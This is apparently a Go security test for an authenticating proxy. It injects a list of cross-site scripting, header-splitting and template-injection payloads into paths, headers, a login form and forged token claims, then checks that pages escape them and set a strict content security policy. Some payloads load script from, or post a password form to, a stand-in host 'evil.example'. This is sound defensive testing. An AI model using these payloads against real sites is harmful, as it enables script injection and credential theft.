//go:build linux

package fastproxy_test

import (
	"fmt"
	"net/http"
	"net/url"
	"regexp"
	"strings"
	"testing"
)

// scripts are texts that would be more than text on a careless page. Each has
// the word pwned where it would act.
var scripts = []string{
	`<script>pwned()</script>`, `</script><script>pwned()</script>`, `<ScRiPt src=//evil.example/pwned.js>`, `<img src=x onerror=pwned()>`, `<svg/onload=pwned()>`, `<svg><animate onbegin=pwned() attributeName=x>`,
	`"><img src=x onerror=pwned()>`, `'><img src=x onerror=pwned()>`, `" autofocus onfocus=pwned() x="`, `' onmouseover='pwned()`, "` onfocus=pwned() x=`", `</title><script>pwned()</script>`, `</style><script>pwned()</script>`,
	`</textarea><script>pwned()</script>`, `<!--><script>pwned()</script>`, `--><script>pwned()</script>`, `<iframe srcdoc="<script>parent.pwned()</script>">`, `<base href=//evil.example/pwned/>`,
	`<meta http-equiv=refresh content="0;url=//evil.example/pwned">`, `<form action=//evil.example/pwned><input name=password>`, `<link rel=stylesheet href=//evil.example/pwned.css>`, `<style>@import "//evil.example/pwned"</style>`,
	`javascript:pwned()`, `data:text/html,<script>pwned()</script>`, `{{pwned}}`, `{{.RequestID}}pwned`, `${pwned()}`, `<%= pwned %>`, `&lt;script&gt;pwned()&lt;/script&gt;`, `&#60;script&#62;pwned()`, `\u003cscript\u003epwned()`,
	`%3Cscript%3Epwned()%3C/script%3E`, "+ADw-script+AD4-pwned()", "\xc0\xbcscript\xc0\xbepwned()", "<\x00script>pwned()</script>", "<scr\nipt>pwned()", "\u2028<script>pwned()", "<script\u00a0>pwned()</script>", "pwned\x1b[2J\x07", "pwned\r\nSet-Cookie: pwned=1",
	"\u202epwned\u202c", "<math><mtext></table><img src=x onerror=pwned()>", `<a href="javascript:pwned()">x</a>`, `<details open ontoggle=pwned()>`, `<input autofocus onfocus=pwned()>`, strings.Repeat("<b>", 200) + "pwned",
}

// live finds what would act on a page: any tag or attribute that a template of
// ours does not have.
var live = regexp.MustCompile(`(?i)<(script|img|svg|iframe|object|embed|base|meta http-equiv|link rel=.?stylesheet|math|animate|details|textarea|b><b>|style)|<[^>]*\s(on[a-z]+\s*=|(href|src|action)\s*=\s*["']?\s*(javascript|data:text|vbscript|//))|<form action=//|<input autofocus onfocus`)

// stylish is our own sheet and icons, and what stands in a field.
var stylish = regexp.MustCompile(`(?s) value="[^"]*"|<style>.*?</style>|<link rel="icon"[^>]*>|<svg class="mark[^>]*>.*?</svg>|<svg[^>]* aria-hidden="true"[^>]*>.*?</svg>`)

// harmless wants a page on which a text is text.
func harmless(t testing.TB, where, script string, res *http.Response, page string) {
	t.Helper()
	ct, csp := res.Header.Get("Content-Type"), res.Header.Get("Content-Security-Policy")
	switch {
	case strings.HasPrefix(ct, "text/html"):
		if !strings.Contains(strings.ToLower(ct), "charset=utf-8") || res.Header.Get("X-Content-Type-Options") != "nosniff" {
			t.Errorf("%s: Content-Type %q", where, ct)
		}
		if !strings.Contains(csp, "default-src 'none'") || strings.Contains(csp, "unsafe") || strings.Contains(csp, "script-src") {
			t.Errorf("%s: Content-Security-Policy %q", where, csp)
		}
		if m := live.FindString(stylish.ReplaceAllString(page, "")); m != "" {
			t.Errorf("%s: %.40q lives on the page as %q", where, script, m)
		}
		if strings.Contains(page, "\x00") {
			t.Errorf("%s: %.40q leaves a NUL on the page", where, script)
		}
	case strings.HasPrefix(ct, "application/json"), strings.HasPrefix(ct, "text/plain"):
		if strings.ContainsAny(page, "<>") {
			t.Errorf("%s: %.40q stands in %s as it is:\n%s", where, script, ct, page)
		}
	case res.StatusCode >= 300 && res.StatusCode < 400, page == "":
	default:
		t.Errorf("%s: answered as %q", where, ct)
	}
	for name, values := range res.Header {
		if name == "Location" || strings.EqualFold(name, "Content-Security-Policy") {
			continue
		}
		if strings.Contains(strings.ToLower(fmt.Sprint(name, values)), "pwned") {
			t.Errorf("%s: %.40q is in the header %s: %q", where, script, name, values)
		}
	}
}

// scripts writes such texts wherever a stranger, an issuer or an app can make
// us say something.
func (w *assault) scripts(t *testing.T) {
	g := newSiege(t, w.bin)
	l := startPocketLiar(t, g.origin)
	l.publish(jwk("ours", ourRSA(), nil))
	g.begin(l.trust(g.origin).and(settings{"AUTH_PASSWD_FILE": g.writePasswd(t, "kim", kimPassword), "AUTH0_GROUPS_CLAIM": "groups"}), "")
	form := g.guest()
	token := form.form()
	for _, s := range scripts {
		q := url.QueryEscape(s)
		check := func(where string, res *http.Response, page string) { t.Helper(); harmless(t, where, s, res, page) }
		raw := func(where, request string) {
			t.Helper()
			res, page := g.raw(request)
			if res == nil {
				t.Errorf("%s: no answer", where)
				return
			}
			check(where, res, page)
		}
		open := func(where, path string) {
			t.Helper()
			b := g.guest()
			res, page := b.open(path)
			check(where, res, page)
			res, page = b.ask("GET", path, nil, "")
			check(where+", to a program", res, page)
		}
		open("path", "/nothing/"+url.PathEscape(s))
		open("path of ours", "/.fastproxy/"+url.PathEscape(s))
		open("return_to", "/login?return_to="+q)
		open("return_to of ours", "/login?return_to=/reports/"+q)
		open("error without an attempt", "/callback?state=x&error="+q+"&error_description="+q)
		open("state", "/callback?code=x&state="+q)
		oneLine := strings.NewReplacer("\r", "", "\n", "", "\x00", "").Replace(s)
		for _, accept := range []string{"text/html", "*/*"} {
			raw("target as it is", "GET /x"+strings.ReplaceAll(oneLine, " ", "")+" HTTP/1.1\r\nHost: "+g.host()+"\r\nAccept: "+accept+"\r\nConnection: close\r\n\r\n")
			raw("Host", "GET /nothing HTTP/1.1\r\nHost: "+oneLine+"\r\nAccept: "+accept+"\r\nConnection: close\r\n\r\n")
			raw("method", strings.ReplaceAll(oneLine, " ", "")+" / HTTP/1.1\r\nHost: "+g.host()+"\r\nAccept: "+accept+"\r\nConnection: close\r\n\r\n")
			raw("header", "GET /nothing HTTP/1.1\r\nHost: "+g.host()+"\r\nAccept: "+accept+"\r\nX-Request-Id: "+oneLine+"\r\nX-Forwarded-For: "+oneLine+"\r\nReferer: "+oneLine+"\r\nUser-Agent: "+oneLine+"\r\nX-Forwarded-Host: "+oneLine+"\r\nConnection: close\r\n\r\n")
		}
		res, page := form.ask("POST", "/.fastproxy/password", with(ownPost, "X-Forwarded-For", address(len(s)*7%4000)), url.Values{"token": {token}, "user": {s}, "password": {s}, "return_to": {s}}.Encode())
		check("user name", res, page)

		// The issuer's words.
		b := g.guest()
		start, _ := b.open("/login?with=issuer")
		state := mustParse(start.Header.Get("Location")).Query().Get("state")
		res, page = b.open("/callback?error=" + q + "&error_description=" + q + "&error_uri=" + q + "&state=" + url.QueryEscape(state))
		check("error_description", res, page)
		if res.StatusCode != http.StatusForbidden {
			t.Errorf("the issuer's no is answered %s", res.Status)
		}
		l.lie(func(c map[string]any) string {
			return good(changed(c, map[string]any{"name": s, "nickname": s, "email": s, "email_verified": true, "picture": s, "locale": s, "groups": []string{s, "x"}, s: s}))
		})
		b = g.guest()
		if res, page = b.open(l.callback(b)); res.StatusCode == http.StatusSeeOther {
			for _, path := range []string{"/.fastproxy/session", "/admin/", "/callback"} { // who you are; you may not; still signed in
				res, page := b.open(path)
				check("claims at "+path, res, page)
				if path == "/.fastproxy/session" && res.StatusCode != 200 {
					t.Errorf("claims: the session page answers %s", res.Status)
				}
			}
			b.open("/reports/")
			for name, values := range g.shiny.header() {
				for _, v := range values {
					for i := range len(v) {
						if v[i] < ' ' || v[i] >= 0x7f {
							t.Errorf("claims: Shiny is told %s: %q", name, v)
						}
					}
				}
				if strings.Contains(name, "Pwned") || strings.Contains(name, "Set-Cookie") {
					t.Errorf("claims: Shiny is told the header %s", name)
				}
			}
		} else {
			check("claims", res, page)
		}
		// No groups: the session page lists the claims that there are.
		l.lie(func(c map[string]any) string {
			return good(changed(c, map[string]any{"groups": nil, "http://x/" + s: s, "name": s}))
		})
		b = g.guest()
		if res, _ := b.open(l.callback(b)); res.StatusCode == http.StatusSeeOther {
			res, page := b.open("/.fastproxy/session")
			check("names of claims", res, page)
		}
		l.lie(nil)
	}
}
